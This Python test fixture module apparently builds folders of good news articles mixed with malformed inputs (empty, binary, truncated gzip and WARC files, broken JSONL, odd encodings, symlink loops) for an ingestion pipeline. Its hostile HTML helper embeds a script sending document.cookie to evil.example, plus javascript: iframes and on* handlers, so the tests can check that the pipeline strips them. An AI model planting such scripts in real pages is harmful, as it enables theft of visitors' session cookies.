"""A folder of good articles mixed with every kind of bad input, and what a run must make of it.

All article texts are written here for these tests.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import random
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Any

#: The size limit the bad-input runs use (--max-bytes): small, so the oversized file stays small.
MAX_BYTES = 60_000
#: Non-ASCII words of the Windows-1252 article.
CP1252_PHRASE = "The café owner — “never again” —"


@dataclass(frozen=True)
class Bad:
    """One bad input: where it is, which stage must report it, words its one-line reason must hold."""

    name: str  # path relative to the folder, with #N for a record of a container file
    stage: str
    words: tuple[str, ...]
    severity: str = "error"


@dataclass
class Folder:
    """What was written: the folder, the phrases of articles that must be stored, the bad inputs."""

    root: Path
    good: dict[str, str] = field(default_factory=dict)  # name -> a phrase its stored text must hold
    bad: list[Bad] = field(default_factory=list)

    def path(self, name: str) -> str:
        return str(self.root / name)


def article(i: int, topic: str) -> tuple[str, str]:
    """A small plain-text article in the title⏎⏎body layout, and a phrase only it holds."""
    phrase = f"{210 + i} {topic} had been counted"
    text = (
        f"Councils report on {topic}, day {i}\n\n"
        f"Officials in district {i} said on Tuesday that {phrase} since the start of the month.\n"
        f"A shopkeeper near the station told reporters that queues had grown longer every morning.\n"
        f"The council said another {i * 4 + 9} {topic} were expected before the weekend.\n"
    )
    return text, phrase


def html_page(title: str, paragraphs: list[str], *, hostile: bool = False) -> str:
    """A news page; the hostile one hides scripts, iframes and on* handlers everywhere."""
    evil = (
        "<script>document.location='http://evil.example/?c='+document.cookie</script>"
        "<iframe src='javascript:alert(1)' onload='alert(2)'></iframe>"
        if hostile else ""
    )
    body = "\n".join(
        f"<p onclick=\"alert('p{i}')\" onmouseover='steal()'>{p}</p>{evil}" if hostile else f"<p>{p}</p>"
        for i, p in enumerate(paragraphs)
    )
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title>{evil}</head>"
        f"<body onload=\"alert('body')\">{evil}<nav><a href='/'>Home</a> <a href='/world'>World</a></nav>"
        f"<article><h1>{title}</h1>{body}</article>{evil}"
        "<footer><p>Contact us | Terms of use</p></footer></body></html>"
    )


def paragraphs(topic: str, n: int) -> list[str]:
    """Paragraphs long enough that HTML extraction takes them as an article body."""
    return [
        f"Engineers inspecting the {topic} said on Thursday that {40 + i} sections needed repair, "
        f"the highest number since inspections began, and that work would start within {i + 2} weeks."
        for i in range(n)
    ]


def warc(pages: list[tuple[str, str]], *, gz: bool) -> bytes:
    """A WARC file with one HTTP 200 text/html response per (url, html) page."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=gz)
    writer.write_record(writer.create_warcinfo_record("crawl.warc", {"software": "presswatch-tests"}))
    for url, html in pages:
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(html.encode("utf-8")),
                                                      http_headers=headers))
    return buf.getvalue()


def _image_warc() -> bytes:
    """A WARC whose only response is an image: no article in it."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=False)
    headers = StatusAndHeaders("200 OK", [("Content-Type", "image/png")], protocol="HTTP/1.1")
    writer.write_record(writer.create_warc_record("https://news.example/a.png", "response",
                                                  payload=io.BytesIO(b"\x89PNG\r\n\x1a\n\x00"), http_headers=headers))
    return buf.getvalue()


def good_folder(root: Path, n: int = 3) -> Folder:
    """Only good articles: plain text, gzip text, HTML, JSONL and WARC."""
    folder = Folder(root)
    root.mkdir(parents=True, exist_ok=True)
    for i, topic in enumerate(["ferry passengers", "hospital beds", "school places"][:n]):
        text, phrase = article(i, topic)
        (root / f"good_{i}.txt").write_text(text, encoding="utf-8")
        folder.good[f"good_{i}.txt"] = phrase
    text, phrase = article(7, "bus drivers")
    (root / "good.txt.gz").write_bytes(gzip.compress(text.encode("utf-8")))
    folder.good["good.txt.gz"] = phrase
    (root / "good.html").write_text(html_page("Bridge repairs to start", paragraphs("river bridge", 3)), encoding="utf-8")
    folder.good["good.html"] = "needed repair"
    return folder


def bad_folder(root: Path) -> Folder:
    """Good articles mixed with every kind of bad input this project knows of."""
    folder = good_folder(root)
    rng = random.Random(8)

    def bad(name: str, data: bytes, stage: str, *words: str, severity: str = "error") -> None:
        path = root / name.split("#")[0]
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():
            path.write_bytes(data)
        folder.bad.append(Bad(name, stage, words, severity))

    bad("empty.txt", b"", "ingest", "empty file")
    bad("blank.txt", b"  \n\n\t \n", "ingest", "empty")
    bad("photo.jpg.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.getrandbits(8) for _ in range(600)),
        "ingest", "binary", "PNG")
    noise = bytes(rng.getrandbits(8) for _ in range(3000))
    bad("noise.dat", noise[:100] + b"\x00\x00" + noise[100:], "ingest", "binary")
    big, _ = article(50, "tram stops")
    bad("huge_file.txt", (big * (MAX_BYTES // len(big) + 2)).encode("utf-8"), "ingest", "size limit", f"{MAX_BYTES:,}")

    # a gzip stream cut in half: the readable half is kept, with a warning
    long_text = article(60, "parking permits")[0] + "".join(article(60 + k, "parking permits")[0].split("\n\n", 1)[1] for k in range(1, 40))
    gz = gzip.compress(long_text.encode("utf-8"))
    bad("cut.txt.gz", gz[: len(gz) // 2], "ingest", "truncated gzip", "kept the", severity="warning")

    # a gzipped WARC of three pages cut inside the third: the first two are still articles
    pages = [(f"https://news.example/{k}", html_page(f"Harbour works part {k}", paragraphs(f"harbour wall {k}", 3)))
             for k in range(3)]
    data = warc(pages, gz=True)
    whole = len(warc(pages[:2], gz=True))  # warcinfo + two complete responses
    (root / "crawl.warc.gz").write_bytes(data[: whole + (len(data) - whole) // 2])
    folder.good["crawl.warc.gz#1"] = "harbour wall 0"
    folder.good["crawl.warc.gz#2"] = "harbour wall 1"
    folder.bad.append(Bad("crawl.warc.gz", "ingest", ("damaged WARC",)))

    # JSONL: good lines with malformed ones between them
    lines = [
        json.dumps({"title": "Wind farm approved", "text": "Planners approved 14 turbines off the coast on Monday.\nThe developer said building would take two years.", "url": "https://news.example/wind"}),
        '{"title": "Broken line", "text": "this line stops in the middle',
        "not json at all",
        json.dumps(["a", "list", "not", "an", "object"]),
        json.dumps({"title": "Library hours extended", "body": "The city library will stay open until 9pm from May.\nStaff said evening visits had doubled since January."}),
        json.dumps({"headline": "No text here", "tags": ["x"]}),
    ]
    (root / "feed.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    folder.good["feed.jsonl#1"] = "14 turbines"
    folder.good["feed.jsonl#5"] = "until 9pm"
    folder.bad += [
        Bad("feed.jsonl#2", "ingest", ("line 2", "malformed JSON")),
        Bad("feed.jsonl#3", "ingest", ("line 3", "malformed JSON")),
        Bad("feed.jsonl#4", "ingest", ("line 4", "not a JSON object")),
        Bad("feed.jsonl#6", "ingest", ("no article text",)),
    ]

    # invalid UTF-8 inside an otherwise good article: kept, the bad bytes decoded by a fallback
    text, phrase = article(70, "street lamps")
    text += "The café owner — “we were never asked” — said the lamps had been dark since March.\n"
    raw = text.encode("utf-8").replace(b"queues", b"qu\xff\xfeeues", 1).replace(b"Officials", b"Officials\xc3", 1)
    (root / "bad_utf8.txt").write_bytes(raw)
    folder.good["bad_utf8.txt"] = phrase

    # HTML full of scripts, iframes and on* attributes around a real article: kept, none of it in the text
    (root / "hostile.html").write_text(html_page("Canal reopens <script>alert(3)</script>",
                                                 paragraphs("canal locks", 3), hostile=True), encoding="utf-8")
    folder.good["hostile.html"] = "canal locks"
    # ... and a page that is nothing but scripts and iframes
    only = ("<html><head><script>var a = 1;</script></head><body onload='x()'>"
            + "<script>alert(document.cookie)</script><iframe src='https://evil.example/'></iframe>" * 30
            + "</body></html>")
    bad("scripts_only.html", only.encode(), "ingest", "no extractable main text")

    # an unsupported language and a gibberish script: kept with a warning
    bad("finnish.txt", (
        "Kaupunginvaltuusto hyväksyi uuden talousarvion\n\n"
        "Kaupunginvaltuusto hyväksyi tiistaina ensi vuoden talousarvion äänin neljäkymmentä kahdeksan.\n"
        "Valtuutettujen mukaan kirjastojen aukioloajat pidetään ennallaan ja uimahalli korjataan keväällä.\n"
    ).encode("utf-8"), "nlp", "language", "Finnish", "could not run", severity="warning")
    glyphs = "".join(chr(0x16A0 + (k * 7) % 80) for k in range(400))  # runic letters
    bad("runes.txt", ("ᚠᚢᚦᚨᚱᚲ ᚷᚹᚺ\n\n" + " ".join(glyphs[k : k + 6] for k in range(0, 400, 6)) + "\n").encode("utf-8"),
        "nlp", "not run", severity="warning")

    # a title and nothing else: no paragraphs
    bad("title_only.txt", b"Council meeting postponed until further notice\n", "clean", "no article text")

    # one huge paragraph with no line breaks (under the size limit)
    sentence = "The committee heard that {n} households on the estate had waited more than a year for repairs, "
    huge = "Estate repairs backlog grows\n\n" + "".join(sentence.format(n=k) for k in range(300)) + "and the hearing closed.\n"
    (root / "huge_paragraph.txt").write_text(huge, encoding="utf-8")
    folder.good["huge_paragraph.txt"] = "299 households"

    # other encodings and line ends of good articles: kept, text intact
    text, phrase = article(80, "cycle lanes")
    (root / "utf16.txt").write_bytes(text.encode("utf-16"))
    folder.good["utf16.txt"] = phrase
    text, phrase = article(81, "bin lorries")
    (root / "cp1252.txt").write_bytes((text + f"{CP1252_PHRASE} said so.\n").encode("cp1252"))
    folder.good["cp1252.txt"] = phrase
    text, phrase = article(82, "taxi ranks")
    (root / "crlf.txt").write_bytes(text.replace("\n", "\r\n").encode("utf-8"))
    folder.good["crlf.txt"] = phrase

    # binary after gunzip, NUL bytes in the middle of text, a WARC with no HTML page, a name with markup
    bad("photo.txt.gz", gzip.compress(b"\x89PNG\r\n\x1a\n" + bytes(200)), "ingest", "binary", "PNG")
    text, _ = article(83, "post boxes")
    bad("nul_inside.txt", text.encode() + b"\x00\x01\x02" * 20 + text.encode(), "ingest", "binary", "NUL")
    bad("images.warc", _image_warc(), "ingest", "no HTML responses")
    bad("[bold]empty[-bold] <b>.txt", b"", "ingest", "empty file")

    # a folder symlink loop and a dangling link: no hang, the dangling one is a failure
    (root / "sub").mkdir()
    os.symlink(root, root / "sub" / "loop")
    os.symlink(root / "gone.txt", root / "sub" / "dangling.txt")
    folder.bad.append(Bad("sub/dangling.txt", "ingest", ("cannot read",)))
    return folder


@lru_cache(maxsize=1)
def built_stages() -> tuple[tuple[Any, ...], dict[str, str]]:
    """The default stages that build now (once per process), and why each other one does not.

    Layers land concurrently and trained models may be missing or stale: such a stage is left out
    with its reason, and the tests say so rather than fail on another layer's set-up.
    """
    from presswatch.options import Options
    from presswatch.registry import DEFAULT_STAGES
    from presswatch.runner import make_stage

    options = Options.build(batch_size=8)
    ok: list[Any] = []
    missing: dict[str, str] = {}
    for name in DEFAULT_STAGES:
        try:
            ok.append(make_stage(name, options))
        except Exception as exc:  # noqa: BLE001 - any reason a stage cannot be built is reported as a skip
            missing[name] = f"{type(exc).__name__}: {' '.join(str(exc).split())[:300]}"
    return tuple(ok), missing


def available_stages() -> tuple[tuple[str, ...], dict[str, str]]:
    """Names of the default stages that build now, and why each other one does not."""
    from presswatch.registry import DEFAULT_STAGES

    _, missing = built_stages()
    return tuple(n for n in DEFAULT_STAGES if n not in missing), dict(missing)


def stage_flags() -> list[str]:
    """CLI flags that pick the loadable stages: none when every default stage loads."""
    ok, missing = available_stages()
    return ["--stages", ",".join(ok)] if missing else []
